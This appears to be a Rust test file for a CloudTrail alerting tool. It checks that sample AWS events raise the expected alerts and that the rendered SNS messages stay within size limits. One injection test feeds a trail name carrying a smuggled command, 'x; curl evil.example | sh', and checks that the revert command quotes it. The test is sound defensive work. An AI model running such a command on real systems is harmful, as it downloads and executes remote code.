//! Every sample through parse, judge and render: each gets exactly the alert
//! its folder's `expected.json` names, stays within SNS's limits and agrees
//! with its alert; representative ones are reviewed snapshots.

use crate::common;

use common::judge;
use common::{all_samples, sample};
use handler::Selection;
use handler::Severity::{Critical, High};
use handler::alert::Outcome;
use handler::event::Event;
use handler::monitors::{Failure, TAMPER};
use handler::render::{MAX_MESSAGE_BYTES, MAX_SUBJECT_CHARS, render};

/// The alert a sample gets, in the words of `expected.json`.
fn observed(name: &str) -> samples::Expected {
    let raw = common::raw(&sample(name));
    let alert = judge(&raw);
    samples::Expected {
        sample: name.to_owned(),
        severity: alert.severity.as_str().to_owned(),
        outcome: serde_json::to_value(alert.outcome)
            .ok()
            .and_then(|o| o.as_str().map(str::to_owned))
            .unwrap_or_default(),
        title: alert.title.clone(),
        reasons: alert.reasons.clone(),
    }
}

/// Where the alert of `sample` differs from what its folder's
/// `expected.json` says, in words; none when it agrees.
fn disagreement(folder: &str, expected: &samples::Expected) -> Option<String> {
    let raw = common::raw(&sample(&expected.sample));
    let alert = judge(&raw);
    if alert.monitor != folder {
        return Some(format!(
            "{}: titled by {}, not by its folder's monitor {folder}",
            expected.sample, alert.monitor
        ));
    }
    let got = observed(&expected.sample);
    (&got != expected).then(|| {
        format!(
            "{}:\n  expected {expected:?}\n  got      {got:?}",
            expected.sample
        )
    })
}

/// With `TRAILWATCH_UPDATE_EXPECTED=1`, writes what every sample of the
/// folders gets to their `expected.json`, for review with `git diff`.
fn update_expected() {
    for folder in samples::folders()
        .into_iter()
        .filter(|f| f != samples::NEGATIVE)
    {
        // Listed samples keep their order; new ones follow.
        let mut names: Vec<String> = samples::expected(&folder)
            .into_iter()
            .map(|e| e.sample)
            .filter(|name| samples::in_folder(&folder).iter().any(|s| &s.name == name))
            .collect();
        for held in samples::in_folder(&folder) {
            if !names.contains(&held.name) {
                names.push(held.name);
            }
        }
        let observed: Vec<samples::Expected> = names.iter().map(|name| observed(name)).collect();
        samples::write_expected(&folder, &observed);
    }
}

#[test]
fn every_sample_gets_the_alert_its_monitor_folder_expects() {
    if std::env::var_os("TRAILWATCH_UPDATE_EXPECTED").is_some() {
        update_expected();
    }
    let mut wrong = Vec::new();
    let mut checked = 0;
    for folder in samples::folders()
        .into_iter()
        .filter(|f| f != samples::NEGATIVE)
    {
        let expected = samples::expected(&folder);
        let mut listed: Vec<&str> = expected.iter().map(|e| e.sample.as_str()).collect();
        listed.sort_unstable();
        let held: Vec<String> = samples::in_folder(&folder)
            .into_iter()
            .map(|s| s.name)
            .collect();
        if listed != held {
            wrong.push(format!(
                "{folder}: expected.json lists {listed:?}, the folder holds {held:?}"
            ));
        }
        for expectation in &expected {
            wrong.extend(disagreement(&folder, expectation));
            checked += 1;
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let judged = samples::all().len() - samples::in_folder(samples::NEGATIVE).len();
    assert_eq!(checked, judged);
}

#[test]
fn an_event_no_enabled_monitor_selects_fails_open_as_review() {
    let raw = common::raw(&sample("negative-iam-get-user"));
    let alert = judge(&raw);
    assert_eq!(
        (alert.monitor, alert.severity, alert.title.as_str()),
        (
            "unrecognised",
            High,
            "Unrecognised security event, review: GetUser"
        )
    );
}

/// Negative samples the tamper monitor selects (calls it watches on
/// trailwatch's own resources) and dismisses (on someone else's).
/// Negative samples a monitor selects and dismisses, with that monitor.
const DISMISSED_NEGATIVES: &[(&str, &str)] = &[
    ("negative-lambda-remove-permission", TAMPER),
    ("negative-root-invoked-by-a-service", "root-account-usage"),
    ("negative-iam-enable-mfa-device", "iam-credential-added"),
    (
        "negative-iam-access-key-deactivated",
        "iam-credential-added",
    ),
    (
        "negative-signin-token-from-identity-center-portal",
        "console-session-from-api-credentials",
    ),
    (
        "negative-rds-modify-instance-class",
        "rds-exposed-or-unprotected",
    ),
    (
        "negative-sagemaker-notebook-resized",
        "sagemaker-code-execution",
    ),
    (
        "negative-ec2-metadata-imdsv2-required",
        "ec2-protection-weakened",
    ),
    (
        "negative-securityhub-findings-note-added",
        "securityhub-findings-suppressed",
    ),
    (
        "negative-eks-endpoint-made-private",
        "eks-access-or-logging-changed",
    ),
    (
        "negative-codebuild-project-made-private",
        "codebuild-project-public",
    ),
    (
        "negative-kms-create-key-without-policy",
        "resource-policy-opened",
    ),
];

#[test]
fn no_monitor_selects_a_negative_sample_but_the_ones_dismissing_it() {
    let every = common::every_monitor();
    for (name, raw) in all_samples()
        .into_iter()
        .filter(|(n, _)| n.starts_with("negative-"))
    {
        let raw = common::raw(&raw);
        let event = Event::parse(&raw).expect("negative samples are well-formed");
        let selecting: Vec<&str> = every
            .selection
            .matching(&event)
            .iter()
            .map(|m| m.id)
            .collect();
        if let Some((_, monitor)) = DISMISSED_NEGATIVES.iter().find(|(n, _)| *n == name) {
            assert_eq!(selecting, [*monitor], "{name}");
            let verdict = handler::pipeline::verdict(&raw, &every, common::TODAY);
            assert!(
                matches!(verdict, handler::pipeline::Verdict::Dismissed { .. }),
                "{name}"
            );
        } else {
            assert!(selecting.is_empty(), "{name}: {selecting:?}");
        }
    }
}

#[test]
fn every_monitor_selects_a_sample_that_succeeded_and_one_that_failed() {
    let every = Selection::every();
    let samples = all_samples();
    // Stateful monitors raise nothing for one event: their samples are sequences.
    for monitor in every.monitors().filter(|m| !m.is_stateful()) {
        let outcomes: Vec<Outcome> = samples
            .iter()
            .map(|(_, raw)| common::raw(raw))
            .filter(|raw| {
                Event::parse(raw).is_ok_and(|e| monitor.selectors().iter().any(|s| s.matches(&e)))
            })
            .map(|raw| judge(&raw).outcome)
            .collect();
        // Where the failure is the finding, every selected sample failed.
        if monitor.failure == Failure::Attempt {
            assert!(
                outcomes.contains(&Outcome::Succeeded),
                "{}: none succeeded",
                monitor.id
            );
        }
        // Sign-ins without MFA and federated sign-ins are selected only when
        // they succeed (the failed ones belong to console-sign-in-failure), and
        // AWS documents no failed GetSigninToken record to write a sample from.
        if ![
            "console-sign-in-without-mfa",
            "console-session-from-api-credentials",
        ]
        .contains(&monitor.id)
        {
            assert!(
                outcomes.contains(&Outcome::Failed),
                "{}: none failed",
                monitor.id
            );
        }
    }
}

#[test]
fn one_event_matching_several_monitors_is_one_alert_with_the_highest_severity_and_every_id() {
    let raw = common::raw(&sample("iam-create-user-by-root"));
    let alert = judge(&raw);
    assert_eq!(
        (alert.monitors, alert.severity, alert.title.as_str()),
        (
            vec!["iam-create-user", "root-account-usage"],
            Critical,
            "root created IAM user backdoor"
        )
    );
    assert_eq!(
        alert.reasons[0],
        "the root session was not MFA-authenticated"
    );
}

#[test]
fn a_denied_call_names_both_the_attempt_and_the_denial() {
    let raw = common::raw(&sample("cloudtrail-change-stop-logging-denied"));
    let alert = judge(&raw);
    assert_eq!(
        alert.monitors,
        ["cloudtrail-change", "unauthorized-api-calls"]
    );
    assert_eq!(
        (alert.controls, alert.techniques.first().copied()),
        (
            vec!["CIS CloudWatch.5", "CIS CloudWatch.2"],
            Some("aws.defense-evasion.cloudtrail-stop")
        )
    );
}

#[test]
fn next_steps_carry_a_quoted_revert_command_from_the_event() {
    let raw = common::raw(&sample("ec2-ingress-legacy-ssh-from-internet"));
    let steps = judge(&raw).next_steps;
    assert!(
        steps.contains(&r#"Revert: aws ec2 revoke-security-group-ingress --group-id sg-0legacy1234567890 --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0"}]}]' --region eu-west-1"#.to_owned()),
        "{steps:?}"
    );
}

#[test]
fn a_revert_command_quotes_a_hostile_name() {
    let mut raw = sample("cloudtrail-change-stop-logging");
    raw["detail"]["requestParameters"]["name"] = "x; curl evil.example | sh".into();
    let steps = judge(&common::raw(&raw)).next_steps;
    assert!(
        steps.contains(&"Revert: aws cloudtrail start-logging --name 'x; curl evil.example | sh' --region us-east-1".to_owned()),
        "{steps:?}"
    );
}

#[test]
fn a_failed_attempt_offers_no_revert_command() {
    let raw = common::raw(&sample("cloudtrail-change-stop-logging-denied"));
    let steps = judge(&raw).next_steps;
    assert!(steps.iter().all(|s| !s.starts_with("Revert")), "{steps:?}");
}

#[test]
fn every_reason_that_raised_severity_is_listed() {
    let raw = sample("ec2-ingress-mixed-public-https-private-postgres");
    assert_eq!(
        judge(&common::raw(&raw)).reasons,
        [
            "tcp port 443 open to the whole internet (0.0.0.0/0)",
            "tcp port 443 open to the whole internet (::/0)",
            "tcp port 5432 open to the private range 10.20.0.0/16",
        ]
    );
}

#[test]
fn a_policy_sent_as_a_json_string_is_judged_like_the_document() {
    let as_object = sample("s3-put-bucket-policy-public-read");
    let mut as_string = as_object.clone();
    let policy = &mut as_string["detail"]["requestParameters"]["bucketPolicy"];
    *policy = policy.to_string().into();

    let (object, string) = (common::raw(&as_object), common::raw(&as_string));
    let (object, string) = (judge(&object), judge(&string));

    assert_eq!(
        (string.severity, string.title, string.reasons),
        (object.severity, object.title, object.reasons)
    );
}

#[test]
fn a_policy_string_that_is_not_json_is_reviewed_naming_the_field_and_position() {
    let mut raw = sample("s3-put-bucket-policy-public-read");
    raw["detail"]["requestParameters"]["bucketPolicy"] = "{\"Statement\": [".into();
    let raw = common::raw(&raw);

    let alert = judge(&raw);

    assert_eq!((alert.monitor, alert.severity), ("s3-bucket-policy", High));
    assert_eq!(
        alert.reasons,
        [
            "trailwatch could not judge it: cannot read requestParameters.bucketPolicy: \
          EOF while parsing a list at line 1 column 15"
        ]
    );
}

#[test]
fn failed_call_says_it_failed_before_what_it_would_have_done() {
    let raw = sample("s3-put-bucket-policy-public-denied");
    let reasons = judge(&common::raw(&raw)).reasons;
    assert_eq!(
        reasons[0],
        "the call FAILED with AccessDenied: nothing was changed"
    );
    let denial = "the caller lacked permission for s3:PutBucketPolicy (AccessDenied)";
    assert!(
        reasons[1..]
            .iter()
            .all(|r| r.starts_with("had it succeeded: ") || r.starts_with(denial)),
        "{reasons:?}"
    );
}

#[test]
fn failed_call_carries_the_error_code_and_message() {
    let raw = sample("iam-create-user-denied");
    let error = judge(&common::raw(&raw)).error.expect("an error");
    assert_eq!(error.code, "AccessDenied");
    assert!(error.message.is_some_and(|m| {
        m.starts_with("User: arn:aws:iam::111122223333:user/mallory is not authorized")
    }));
}

#[test]
fn actor_carries_session_issuer_and_mfa_string_as_bool() {
    let raw = sample("iam-create-user-by-cloudformation-role");
    let actor = judge(&common::raw(&raw)).actor;
    assert_eq!(
        actor.session_issuer.as_deref(),
        Some("arn:aws:iam::111122223333:role/DeployRole")
    );
    assert_eq!(actor.mfa, Some(false));
    assert_eq!(
        actor.source_ip.as_deref(),
        Some("cloudformation.amazonaws.com")
    );
}

#[test]
fn console_link_points_at_the_event() {
    let raw = common::raw(&sample("iam-create-user-by-admin"));
    let alert = judge(&raw);
    let id = alert.event_id.clone().expect("event id");
    assert_eq!(
        alert.console_url.as_deref(),
        Some(format!("https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/{id}").as_str())
    );
}

#[test]
fn old_event_version_without_recipient_account_takes_the_envelope_account() {
    let raw = common::raw(&sample("iam-create-access-key-old-event-version"));
    let alert = judge(&raw);
    assert_eq!(
        (alert.event_id, alert.account.as_deref()),
        (None, Some("111122223333"))
    );
}

/// Samples whose whole message is a reviewed snapshot: one of each monitor
/// family, a failed attempt, a health alarm and its return, and the two kinds
/// of review alert. Every other sample's alert is pinned by its folder's
/// `expected.json` and checked by
/// [`every_published_sample_stays_within_sns_limits_and_agrees_with_its_alert`].
const SNAPSHOTTED: &[&str] = &[
    "cloudtrail-change-stop-logging",
    "cloudtrail-change-stop-logging-denied",
    "iam-create-user-by-root",
    "iam-role-trust-open-to-everyone",
    "console-sign-in-without-mfa",
    "root-account-usage-api-call-without-mfa",
    "s3-put-bucket-policy-public-read",
    "ec2-ingress-legacy-ssh-from-internet",
    "ec2-network-acl-change-entry",
    "ec2-ami-made-public",
    "lambda-permission-public",
    "guardduty-detector-deleted",
    "secrets-retrieved",
    "tamper-rule-disabled",
    "health-handler-errors-alarm",
    "health-handler-errors-ok",
    "malformed-iam-user-identity-is-a-string",
    "negative-iam-get-user",
];

#[test]
fn representative_samples_render_to_reviewed_snapshots() {
    for name in SNAPSHOTTED {
        let raw = sample(name);
        let message = render(judge(&common::raw(&raw)));
        let bodies: serde_json::Value =
            serde_json::from_str(&message.body).expect("bodies are JSON");
        let document: serde_json::Value =
            serde_json::from_str(bodies["sqs"].as_str().expect("sqs body"))
                .expect("document is JSON");
        insta::assert_snapshot!(format!("{name}.subject"), message.subject);
        insta::assert_snapshot!(
            format!("{name}.text"),
            bodies["email"].as_str().expect("email body")
        );
        insta::assert_json_snapshot!(format!("{name}.attributes"), message.attributes);
        // The raw event is the sample's detail: check it is embedded, then
        // snapshot the document without it.
        let mut document = document;
        assert_eq!(
            document.get("event"),
            Some(&raw["detail"]),
            "{name}: raw event embedded"
        );
        document.as_object_mut().expect("object").remove("event");
        // Key order of a parsed document depends on serde_json features other crates
        // enable; sort so the snapshot does not.
        insta::with_settings!({sort_maps => true}, {
            insta::assert_json_snapshot!(format!("{name}.document"), document);
        });
    }
}

#[test]
fn every_published_sample_stays_within_sns_limits_and_agrees_with_its_alert() {
    let published = all_samples()
        .into_iter()
        .filter(|(name, _)| !DISMISSED_NEGATIVES.iter().any(|(n, _)| n == name));
    for (name, raw) in published {
        let raw_text = common::raw(&raw);
        let alert = judge(&raw_text);
        let (severity, monitor, title) = (alert.severity, alert.monitor, alert.title.clone());
        let message = render(alert);
        assert!(
            message.size() <= MAX_MESSAGE_BYTES,
            "{name}: {} bytes",
            message.size()
        );
        assert!(
            message.subject.starts_with(&format!("[{severity}] "))
                && message.subject.len() <= MAX_SUBJECT_CHARS
                && message.subject.bytes().all(|b| (0x20..0x7f).contains(&b)),
            "{name}: subject {:?}",
            message.subject
        );
        let bodies: serde_json::Value =
            serde_json::from_str(&message.body).expect("bodies are JSON");
        let document: serde_json::Value =
            serde_json::from_str(bodies["sqs"].as_str().expect("sqs body"))
                .expect("document is JSON");
        assert_eq!(
            (
                &document["schema"],
                &document["severity"],
                &document["monitor"],
                &document["title"],
                document
                    .get("event")
                    .or(document.get("event_excerpt"))
                    .is_some(),
            ),
            (
                &serde_json::json!("trailwatch.alert"),
                &serde_json::json!(severity.as_str()),
                &serde_json::json!(monitor),
                &serde_json::json!(title),
                true,
            ),
            "{name}"
        );
        let text = bodies["email"].as_str().expect("email body");
        assert!(
            text.contains(&format!("Severity:  {severity}\n")),
            "{name}: the text names the severity"
        );
        let attribute = |key: &str| {
            message
                .attributes
                .iter()
                .find(|(k, _)| *k == key)
                .map(|(_, v)| v.as_str())
        };
        assert_eq!(attribute("severity"), Some(severity.as_str()), "{name}");
        assert_eq!(attribute("monitor"), Some(monitor), "{name}");
    }
}
